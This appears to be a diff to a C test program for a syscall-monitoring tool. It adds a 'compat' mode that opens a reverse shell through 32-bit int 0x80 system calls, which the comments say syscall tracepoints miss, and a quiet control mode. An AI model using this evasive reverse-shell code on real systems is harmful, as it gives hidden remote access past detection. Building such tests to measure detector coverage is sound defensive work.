@@ -12,6 +12,11 @@
  *                          child is gone                  (a reverse shell with no connect of its own)
  *   bind PORT              listen on every interface, accept, dup2 the accepted socket onto
  *                          0-2, exec /bin/sh -i                             (bind shell)
+ *   compat IP PORT         socket, connect and dup2 onto 0-2 as 32-bit system calls (int $0x80
+ *                          from this 64-bit program: no syscall tracepoint sees them), exec
+ *                          /bin/sh -i                   (a reverse shell the syscall hooks miss)
+ *   compat-quiet           getuid, uname and dup2 as 64-bit calls with the numbers 32-bit
+ *                          socketcall, dup2 and dup have (102, 63, 41 is socket: not called)
  *   uring-write PATH TEXT  openat + write through io_uring; prints the bytes written
  *   tmpfile DIR            O_TMPFILE copy of /bin/sleep, reopened read-only through
  *                          /proc/self/fd/N, exec'd through /proc/self/fd/M
@@ -32,6 +37,7 @@
 #include <sys/prctl.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
+#include <sys/utsname.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -152,6 +158,20 @@ static int copy_file(int to, const char *from)
     return n < 0 ? -1 : 0;
 }
 
+#if defined(__x86_64__)
+/* a 32-bit system call from this 64-bit program: arguments in ebx, ecx, edx (pointers must lie
+ * below 4 GiB: the caller maps them with MAP_32BIT) */
+static long compat_call(long nr, long a, long b, long c)
+{
+    long r;
+    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
+    return r;
+}
+#define COMPAT_SOCKET 359
+#define COMPAT_CONNECT 362
+#define COMPAT_DUP2 63
+#endif
+
 static struct sockaddr_in addr_of(const char *ip, const char *port)
 {
     struct sockaddr_in sa;
@@ -182,6 +202,33 @@ int main(int argc, char **argv)
         dup2(s, 0);
         execl("/bin/sh", "sh", "-i", (char *)0);
         return fail("exec");
+#if defined(__x86_64__)
+    } else if (!strcmp(mode, "compat") && argc == 4) {
+        struct sockaddr_in *sa = mmap(0, 4096, PROT_READ | PROT_WRITE,
+                                      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+        if (sa == MAP_FAILED)
+            return fail("mmap");
+        *sa = addr_of(argv[2], argv[3]);
+        long s = compat_call(COMPAT_SOCKET, AF_INET, SOCK_STREAM, 0);
+        if (s < 0) {
+            errno = (int)-s;
+            return fail("socket (int 0x80)");
+        }
+        long rc = compat_call(COMPAT_CONNECT, s, (long)(unsigned long)sa, sizeof(*sa));
+        if (rc < 0) {
+            errno = (int)-rc;
+            return fail("connect (int 0x80)");
+        }
+        for (long fd = 0; fd < 3; fd++)
+            compat_call(COMPAT_DUP2, s, fd, 0);
+        execl("/bin/sh", "sh", "-i", (char *)0);
+        return fail("exec");
+    } else if (!strcmp(mode, "compat-quiet")) {
+        struct utsname u;
+        if (getuid() == (uid_t)-1 || uname(&u) || dup2(1, 9) != 9)
+            return fail("getuid/uname/dup2");
+        return 0;
+#endif
     } else if (!strcmp(mode, "uring") && argc == 4) {
         static struct sockaddr_in sa;
         sa = addr_of(argv[2], argv[3]);
